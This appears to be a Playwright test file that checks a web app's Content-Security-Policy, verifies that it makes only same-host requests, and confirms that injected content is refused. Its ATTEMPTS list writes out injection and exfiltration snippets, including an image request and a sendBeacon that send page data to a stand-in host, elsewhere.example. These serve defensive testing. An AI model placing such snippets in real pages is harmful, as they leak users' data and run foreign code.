/** Nothing leaves the page and nothing foreign runs in it; and the watch over every journey sees what it watches for. */
import type { Page } from '@playwright/test';
import { chooseFormat, openExport } from './exporting';
import { complaintsOf, expect, open, settled, test } from './journey';
import { importText } from './stories';

/** What the page's own policy says, by directive. */
async function policyOf(page: Page): Promise<Record<string, string>> {
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const directives = (policy ?? '').split(';').map((each) => each.trim().split(/ (.*)/s));
  return Object.fromEntries(directives.map(([name = '', sources = '']) => [name, sources]));
}

test('the built page lets in its own scripts, styles, pictures and letters alone, and connects to nobody', async ({
  page,
}) => {
  await open(page);
  expect(await policyOf(page)).toEqual({
    'default-src': "'none'",
    'script-src': "'self'",
    'worker-src': "'self'",
    'style-src': "'self'",
    'img-src': "'self' blob:",
    'font-src': "'self'",
    'manifest-src': "'self'",
    'base-uri': "'none'",
    'form-action': "'none'",
  });
  const inline = await page.locator('script:not([src]), style, [onload], [onclick], [onerror]').count();
  expect(inline).toBe(0);
});

test('what is asked of the page is asked of its own host, without cookies or a body', async ({ page, baseURL }) => {
  const asked: string[] = [];
  page.context().on('request', (request) => {
    asked.push(request.url());
    expect(request.method()).toBe('GET');
    expect(request.postData()).toBeNull();
    expect(request.url()).not.toContain('#');
    expect(new URL(request.url()).search).toBe('');
  });
  await open(page);
  await importText(page, 'qemu-system-x86_64 -machine q35 -cpu EPYC,phys-bits=48 -m 3G');
  await openExport(page);
  await chooseFormat(page, 'QEMU command line');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Share' }).click();
  await settled(page);
  expect(asked.length).toBeGreaterThan(0);
  expect(asked.filter((url) => !url.startsWith(baseURL ?? 'nowhere'))).toEqual([]);
  expect(await page.context().cookies()).toEqual([]);
});

/** A page outside the watch over journeys, under a watch of its own. */
const watched = test.extend<{ complaints: readonly string[]; noisy: Page }>({
  complaints: async ({ noisy, baseURL }, use) => use(complaintsOf(noisy.context(), new URL(baseURL ?? '').origin)),
  noisy: async ({ browser, baseURL }, use) => {
    const context = await browser.newContext({ baseURL: baseURL ?? '', serviceWorkers: 'block' });
    await use(await context.newPage());
    await context.close();
  },
});

interface Refused {
  ran?: boolean;
  refused?: string[];
}

/** What somebody who has got hold of the page's elements would try, and the directive that refuses it. */
const ATTEMPTS: readonly (readonly [what: string, directive: string, attempt: () => void])[] = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
    },
  ],
  [
    'a script in an attribute',
    'script-src-attr',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.ran = true');
      document.body.append(button);
      button.click();
    },
  ],
  [
    'text run as code',
    'script-src',
    // Later, since the policy leaves alone what the test itself evaluates.
    () => void setTimeout('window.ran = true'),
  ],
  [
    'a script of another host',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://elsewhere.example/script.js';
      document.body.append(script);
    },
  ],
  [
    'a style in an attribute',
    'style-src-attr',
    () => {
      document.body.setAttribute('style', 'color: inherit');
    },
  ],
  [
    'a picture that carries data away',
    'img-src',
    () => {
      new Image().src = `https://elsewhere.example/?${encodeURIComponent(document.title)}`;
    },
  ],
  ['a message to another host', 'connect-src', () => void navigator.sendBeacon('https://elsewhere.example/', 'text')],
  ['a request to the own host', 'connect-src', () => void fetch('./icon.svg').catch(() => undefined)],
  [
    'a page inside the page',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.example/';
      document.body.append(frame);
    },
  ],
];

for (const [what, directive, attempt] of ATTEMPTS) {
  watched(`the page refuses ${what}, which every journey would hear of`, async ({ noisy, complaints }) => {
    await open(noisy);
    await noisy.evaluate(() => {
      const found = window as Window & Refused;
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        found.refused = [...(found.refused ?? []), effectiveDirective];
      });
    });
    expect(complaints).toEqual([]);
    await noisy.evaluate(attempt);
    await expect.poll(() => noisy.evaluate(() => (window as Refused).refused)).toContain(directive);
    expect(await noisy.evaluate(() => (window as Refused).ran)).toBeUndefined();
    await expect.poll(() => complaints.join()).toMatch(/console: .*Content Security Policy/);
  });
}

/** Noise that a page could make, and how the watch over journeys words it. */
const NOISE: readonly (readonly [what: string, complaint: RegExp, make: () => void])[] = [
  // eslint-disable-next-line no-console -- it is the noise
  ['an error on the console', /^console: the sky falls/, () => console.error('the sky falls')],
  [
    'an exception that nobody catches',
    /^uncaught: .*thrown away/,
    () =>
      void setTimeout(() =>
        (() => {
          throw new Error('thrown away');
        })(),
      ),
  ],
  [
    'a rejection that nobody handles',
    /^uncaught: .*rejected/,
    () => void setTimeout(() => void Promise.reject(new Error('rejected'))),
  ],
  [
    'an exception in a worker',
    /^(uncaught|console): .*out of a worker/,
    () => void new Worker(URL.createObjectURL(new Blob(['throw new Error("out of a worker")']))),
  ],
  [
    'a request to another host',
    /^request: http:\/\/localhost:1\/a/,
    () => void fetch('http://localhost:1/a').catch(() => 0),
  ],
  ['a connection to another host', /^request: ws:\/\/localhost:1\/b/, () => void new WebSocket('ws://localhost:1/b')],
  ['a file that is not there', /^answer 404: /, () => void fetch('/assets/missing.js')],
];

for (const [what, complaint, make] of NOISE) {
  watched(`a journey would fail on ${what}`, async ({ noisy, complaints }) => {
    // Of the own host, but without the page's policy, which would refuse most of it.
    await noisy.goto('icon.svg');
    expect(complaints).toEqual([]);
    await noisy.evaluate(make);
    await expect.poll(() => complaints.find((each) => complaint.test(each))).toBeDefined();
  });
}
